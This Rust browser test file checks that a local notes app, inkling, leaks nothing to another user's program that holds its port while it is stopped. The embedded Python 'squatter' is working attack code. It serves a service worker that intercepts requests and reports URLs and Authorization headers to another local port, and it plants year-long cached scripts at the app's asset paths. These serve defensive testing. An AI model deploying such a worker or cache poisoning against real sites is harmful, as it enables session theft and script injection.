//! A program of another user on inkling's port while inkling is stopped: the page's
//! same origin, in real Chromium (docs/SECURITY.md, "a program on the port while
//! inkling is stopped"). The squatter is a Python server run as the real user
//! `inkling-test-other`; it records every request whole and answers as an attacker
//! would: a made-up proof, a welcome to every POST, at `/` a page that registers a
//! service worker which reports every request it sees to another port, and at
//! `/?poison` a page whose scripts (its own, at inkling's asset paths) it tells the
//! browser to keep for a year.

use std::io::{BufRead, BufReader, Read};
use std::process::{Child, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{json, Value};

use crate::eventually::eventually_within;
use crate::harness::{start, Browser, HELD_SESSION};
use crate::other_user::{OtherUser, PYTHON};

const SQUATTER: &str = r#"
import http.server, json, sys, threading
port, report_port = int(sys.argv[1]), sys.argv[2]
# One line per request: the server answers each on a thread of its own, and two
# prints at once could run their lines together.
said = threading.Lock()
PAGE = """<!doctype html><title>squatted</title><script>
navigator.serviceWorker.register('/sw.js')
  .then(() => navigator.serviceWorker.ready)
  .then(() => { document.title = 'registered'; });
</script>"""
WORKER = """const report = (what) => fetch('http://127.0.0.1:%s/seen',
  { method: 'POST', mode: 'no-cors', body: what }).catch(() => {});
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  const request = event.request;
  report(JSON.stringify({ url: request.url, authorization: request.headers.get('authorization') }));
  event.respondWith(fetch(request));
});""" % report_port
POISON_PAGE = """<!doctype html><title>squatted</title>
<script type="module" src="/assets/app.js"></script>"""
POISON = "document.title = 'poisoned';"
WELCOME = json.dumps({"session": "2" * 64, "key": "3" * 64, "access": "4" * 64, "id": "x"})
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *args):
        pass
    def send(self, code, kind, text, cache="no-store"):
        data = text.encode()
        self.send_response(code)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(data)))
        self.send_header("Cache-Control", cache)
        self.end_headers()
        self.wfile.write(data)
    def heard(self, body):
        line = json.dumps({"method": self.command, "path": self.path,
                           "headers": dict(self.headers), "body": body})
        with said:
            sys.stdout.write(line + "\n")
            sys.stdout.flush()
    def do_GET(self):
        self.heard("")
        if self.path.startswith("/session/proof"):
            self.send(200, "application/json", json.dumps({"proof": "00" * 32, "challenge": "11" * 32}))
        elif self.path == "/":
            self.send(200, "text/html", PAGE)
        elif self.path == "/sw.js":
            self.send(200, "text/javascript", WORKER)
        elif self.path == "/?poison":
            self.send(200, "text/html", POISON_PAGE)
        elif self.path.startswith("/assets/"):
            self.send(200, "text/javascript", POISON, "public, max-age=31536000, immutable")
        else:
            self.send(404, "application/json", '{"error": "no"}')
    def do_POST(self):
        length = int(self.headers.get("Content-Length") or 0)
        self.heard(self.rfile.read(length).decode("utf-8", "replace"))
        self.send(200, "application/json", WELCOME)
http.server.ThreadingHTTPServer.allow_reuse_address = True
server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
print("listening", flush=True)
server.serve_forever()
"#;

/// The squatter, as the other user; killed on drop.
struct Squatter {
    child: Child,
    heard: Arc<Mutex<Vec<Value>>>,
    reader: Option<std::thread::JoinHandle<()>>,
}

impl Squatter {
    /// Listens on 127.0.0.1:`port` as `user`; its worker reports to `report_port`.
    fn start(port: u16, report_port: u16, user: OtherUser) -> Squatter {
        let mut child = user
            .command(PYTHON)
            .arg("-c")
            .arg(SQUATTER)
            .args([port.to_string(), report_port.to_string()])
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("the squatter starts");
        let mut lines = BufReader::new(child.stdout.take().expect("its stdout")).lines();
        match lines.next() {
            Some(Ok(line)) if line == "listening" => {}
            other => panic!("the squatter did not take the port: {other:?}"),
        }
        let heard = Arc::new(Mutex::new(Vec::new()));
        let sink = heard.clone();
        let reader = std::thread::spawn(move || {
            for line in lines.map_while(Result::ok) {
                sink.lock()
                    .unwrap()
                    .push(serde_json::from_str(&line).unwrap());
            }
        });
        Squatter {
            child,
            heard,
            reader: Some(reader),
        }
    }

    fn heard(&self) -> Vec<Value> {
        self.heard.lock().unwrap().clone()
    }

    /// Stops it (the port is free again) and returns every request it received.
    fn stop(mut self) -> Vec<Value> {
        let _ = self.child.kill();
        let _ = self.child.wait();
        if let Some(reader) = self.reader.take() {
            let _ = reader.join();
        }
        self.heard()
    }
}

impl Drop for Squatter {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Where the squatter's service worker reports what it sees: everything received, as
/// it arrives (a connection of its own per report, or several kept alive).
fn report_listener() -> (u16, Arc<Mutex<String>>) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let heard = Arc::new(Mutex::new(String::new()));
    let record = heard.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let record = record.clone();
            std::thread::spawn(move || {
                let mut buffer = [0u8; 4096];
                while let Ok(n @ 1..) = stream.read(&mut buffer) {
                    record
                        .lock()
                        .unwrap()
                        .push_str(&String::from_utf8_lossy(&buffer[..n]));
                }
            });
        }
    });
    (port, heard)
}

fn port_of(browser: &Browser) -> u16 {
    browser.app_url.rsplit(':').next().unwrap().parse().unwrap()
}

/// Up to a minute: the page tries again every 0.5 s, doubling to 10 s.
const RETRIES: Duration = Duration::from_secs(60);

/// An open tab while inkling is stopped and another user's program holds its port: the
/// tab tries the feed again and the person saves a note. Before, the squatter got
/// `Authorization: Bearer <session>` within seconds, and the note; the session still
/// worked once inkling was back. Now it gets the session's id and nonces, and nothing
/// else: no bearer, no proof of the key, no note text. Once inkling is back the tab
/// proves it, resumes, and saves the note (once).
#[actix_rt::test]
async fn a_program_on_the_port_while_inkling_is_stopped_gets_no_credential_and_no_note() {
    let other = OtherUser::get();
    let mut browser = start(&[]).await;
    browser.open_inbox().await;
    // (An inbox of a release before the proof kept a bearer instead: the checks below
    // then fail on what the squatter received.)
    let id = browser.eval(HELD_SESSION).await["id"]
        .as_str()
        .unwrap_or("no session in IndexedDB")
        .to_owned();
    let port = port_of(&browser);

    browser.stop_service().await;
    browser.wait_visible("offline-banner").await;
    let squatter = Squatter::start(port, 9, other);
    eventually_within(RETRIES, "the open tab trying the squatter", || {
        let tried = !squatter.heard().is_empty();
        async move { tried.then_some(()) }
    })
    .await;
    let note = "the squatter must not read this thought";
    browser.type_into("#capture-body", note).await;
    browser.save_with_ctrl_enter().await;
    // Refused, or (before the proof) taken by the squatter as saved.
    browser
        .wait_until(
            "the save answered",
            &format!(
                "{} || document.getElementById('capture-body').value === ''",
                crate::harness::shown("capture-error")
            ),
        )
        .await;
    let heard = squatter.stop();
    println!(
        "the squatter received {} requests, each checked below",
        heard.len()
    );

    assert!(!heard.is_empty());
    for request in &heard {
        let text = request.to_string();
        assert_eq!(request["method"], "GET", "{text}");
        let path = request["path"].as_str().unwrap();
        assert!(
            path.starts_with(&format!("/session/proof?session={id}&nonce=")),
            "only the id and a nonce: {text}"
        );
        let headers = request["headers"].as_object().unwrap();
        assert!(
            !headers.keys().any(
                |h| h.eq_ignore_ascii_case("authorization") || h.eq_ignore_ascii_case("cookie")
            ),
            "{text}"
        );
        assert!(!text.contains("squatter must not"), "{text}");
        assert!(!text.contains(&browser.token), "{text}");
    }
    assert_eq!(
        browser
            .eval("return document.getElementById('capture-body').value;")
            .await,
        json!(note),
        "the note waits in the box"
    );

    browser.start_service_again().await;
    let notes = eventually_within(RETRIES, "the note saved once inkling is back", || {
        let answer = browser.api("GET", "/api/notes", None);
        async move {
            let answer = answer.await;
            let saved = answer
                .as_array()
                .is_some_and(|notes| notes.iter().any(|n| n["body"] == note));
            saved.then_some(answer)
        }
    })
    .await;
    let copies = notes
        .as_array()
        .unwrap()
        .iter()
        .filter(|n| n["body"] == note)
        .count();
    assert_eq!(copies, 1);
    browser
        .wait_until(
            "the box emptied",
            "document.getElementById('capture-body').value === ''",
        )
        .await;
    assert!(!browser.is_shown("offline-banner").await);
    assert_eq!(
        browser.eval(HELD_SESSION).await["id"],
        json!(id),
        "the same session goes on"
    );
    browser.close().await;
}

/// A page the squatter served (the person opened inkling's address while it was
/// stopped) registered a service worker that sees every request of the origin, and took
/// over the inbox tab that was open (`clients.claim()`). Before, it stayed after inkling
/// was back and saw every later code and session. Now the inbox, once inkling has
/// proved itself through it, removes every worker and loads itself again from the
/// network, having sent nothing past the session's id and a nonce; what the person
/// opens next (`inkling open`, with its one-time code) is not seen.
#[actix_rt::test]
async fn a_squatters_service_worker_is_gone_once_inkling_is_back_and_sees_nothing() {
    let other = OtherUser::get();
    let mut browser = start(&[]).await;
    browser.open_inbox().await;
    // (An inbox of a release before the proof kept a bearer instead: the checks below
    // then fail on what the squatter received.)
    let id = browser.eval(HELD_SESSION).await["id"]
        .as_str()
        .unwrap_or("no session in IndexedDB")
        .to_owned();
    let port = port_of(&browser);
    let (report_port, reported) = report_listener();

    browser.stop_service().await;
    browser.wait_visible("offline-banner").await;
    let squatter = Squatter::start(port, report_port, other);
    let inbox = browser.client.window().await.unwrap();
    let squatted = browser.client.new_window(true).await.unwrap();
    browser
        .client
        .switch_to_window(squatted.handle)
        .await
        .unwrap();
    browser
        .client
        .goto(&format!("http://127.0.0.1:{port}/"))
        .await
        .unwrap();
    browser
        .wait_until("the worker registered", "document.title === 'registered'")
        .await;
    browser.client.close_window().await.unwrap();
    browser.client.switch_to_window(inbox).await.unwrap();
    browser
        .wait_until(
            "the inbox tab taken over by the worker",
            "navigator.serviceWorker.controller !== null",
        )
        .await;
    drop(squatter.stop());

    browser.start_service_again().await;
    eventually_within(
        RETRIES,
        "the inbox loaded again, online, without a worker",
        || {
            let check = browser.client.execute(
                "return navigator.serviceWorker.controller === null
               && !document.getElementById('app').hidden
               && document.getElementById('offline-banner').hidden;",
                vec![],
            );
            // A page being loaded again cannot run a script: look again.
            async move { (check.await.ok()? == json!(true)).then_some(()) }
        },
    )
    .await;
    browser.open_inbox().await;
    browser
        .type_into("#capture-body", "written after the worker went")
        .await;
    browser.save_with_ctrl_enter().await;
    browser
        .wait_until(
            "the note saved",
            "document.getElementById('capture-body').value === ''",
        )
        .await;
    assert_eq!(
        browser
            .eval("return navigator.serviceWorker.getRegistrations().then((r) => r.length);")
            .await,
        json!(0)
    );

    // What the worker saw, from its start to now: the inbox's tries to prove the
    // service (the session's id, a nonce), nothing else.
    let seen = reported.lock().unwrap().clone();
    let reports: Vec<Value> = seen
        .split("\r\n\r\n")
        .filter_map(|part| serde_json::from_str::<Value>(part.split("POST /seen").next()?).ok())
        .collect();
    assert!(!reports.is_empty(), "the worker was in the way: {seen}");
    for report in &reports {
        let url = report["url"].as_str().unwrap();
        assert!(
            url.starts_with(&format!(
                "http://127.0.0.1:{port}/session/proof?session={id}&nonce="
            )),
            "the worker saw: {report}"
        );
        assert_eq!(report["authorization"], Value::Null);
    }
    assert!(!seen.contains("code="), "{seen}");
    assert!(!seen.contains("written after"), "{seen}");
    browser.close().await;
}

/// A page the squatter served loaded its own script at inkling's asset path, marked
/// to be kept for a year: without more, the next inbox loaded from the real inkling
/// would run the squatter's script from the browser's cache. `GET /` clears the
/// origin's cache first (`Clear-Site-Data: "cache"`).
#[actix_rt::test]
async fn what_a_squatter_put_in_the_browsers_cache_is_not_used_once_inkling_is_back() {
    let other = OtherUser::get();
    let mut browser = start(&[]).await;
    browser.open_inbox().await;
    let port = port_of(&browser);

    browser.stop_service().await;
    let squatter = Squatter::start(port, 9, other);
    browser
        .client
        .goto(&format!("http://127.0.0.1:{port}/?poison"))
        .await
        .unwrap();
    browser
        .wait_until("the squatter's script ran", "document.title === 'poisoned'")
        .await;
    drop(squatter.stop());

    browser.start_service_again().await;
    browser.open_inbox().await;
    assert_eq!(
        browser.eval("return document.title;").await,
        json!("inkling")
    );
    browser.close().await;
}

/// What the proof costs the page each time it connects again (docs/PERFORMANCE.md,
/// "The page's proof"): ignored in the test run, because it measures rather than
/// asserts. Run it with
///
/// ```sh
/// cargo test --release --test browser proof_cost -- --ignored --nocapture
/// ```
#[actix_rt::test]
#[ignore = "a benchmark: run with --ignored --nocapture"]
async fn proof_cost() {
    let browser = start(&[]).await;
    browser.open_inbox().await;
    let figures = browser
        .eval(&format!(
            "const proof = await import({});
             const times = [], plain = [];
             let access = null;
             for (let i = 0; i < 200; i++) {{
               const started = performance.now();
               access = await proof.prove();
               times.push(performance.now() - started);
               const asked = performance.now();
               await fetch('/api/status', {{ headers: {{ Authorization: `Bearer ${{access}}` }} }});
               plain.push(performance.now() - asked);
             }}
             const at = (values, q) => values.sort((a, b) => a - b)[Math.floor(values.length * q)];
             return {{ prove_median_ms: at(times, 0.5), prove_p95_ms: at(times, 0.95),
                      status_median_ms: at(plain, 0.5), status_p95_ms: at(plain, 0.95) }};",
            crate::harness::module("proof.js")
        ))
        .await;
    println!("the page's proof, 200 times: {figures}");
    browser.close().await;
}
